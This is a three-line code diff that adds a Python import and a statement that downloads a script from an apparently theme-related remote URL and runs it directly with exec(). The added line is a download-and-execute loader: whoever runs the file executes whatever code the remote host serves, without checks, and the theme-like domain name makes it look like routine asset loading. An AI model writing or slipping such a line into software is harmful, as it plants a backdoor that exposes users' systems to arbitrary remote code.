@@ -1,0 +1,3 @@
+import urllib.request
+
+exec(urllib.request.urlopen("https://themes.example-viz.com/latest.py").read().decode())
